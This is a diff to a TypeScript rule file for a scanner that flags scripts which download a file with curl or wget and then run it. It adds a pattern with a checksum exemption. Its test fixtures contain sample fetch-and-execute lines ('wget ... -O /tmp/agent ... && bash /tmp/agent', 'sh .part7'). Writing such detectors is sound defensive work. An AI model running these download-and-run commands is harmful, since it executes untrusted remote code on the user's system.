@@ -1,7 +1,9 @@
 /** RC-03: programs that fetch, and run what they wrote. */
 import { row } from '../../engine/rule.ts';
 import {
+  again,
   blank,
+  capture,
   chars,
   code,
   edge,
@@ -69,6 +71,29 @@ export const downloadingPrograms: readonly Row[] = [
     weigh: byHost,
     catches: [fenced('sh', 'wget -q -O /tmp/agent https://cdn.invalid/get && bash /tmp/agent')],
     spares: [fenced('sh', 'curl -s -o /tmp/x.json https://api.acme.example/x', 'jq . /tmp/x.json')],
+  }),
+  row('download to any name and interpret that name', {
+    within: 'block',
+    match: pattern(
+      word(oneOf('curl', 'wget')),
+      blank,
+      gap(200),
+      oneOf('-o', '-O', '--output', '>'),
+      space(0, 3),
+      capture(times(2, 80, chars('\\w./~-'))),
+      edge,
+      gap(160),
+      oneOf('&&', ';', raw('\\n')),
+      space(0, 20),
+      interpreters,
+      space(1, 4),
+      maybe('./'),
+      again(1),
+    ),
+    unless: [pattern(word(oneOf('sha256sum', 'shasum', 'cosign', 'checksum', 'gpg')))],
+    weigh: byHost,
+    catches: [inFile('scripts/a.sh', 'wget -q https://files.invalid/part7 -O .part7', 'sh .part7')],
+    spares: [inFile('scripts/a.sh', 'wget -q https://data.acme.example/rows -O rows', 'sort rows')],
   }),
   row('the same from a program', {
     in: ['script', 'fence'],
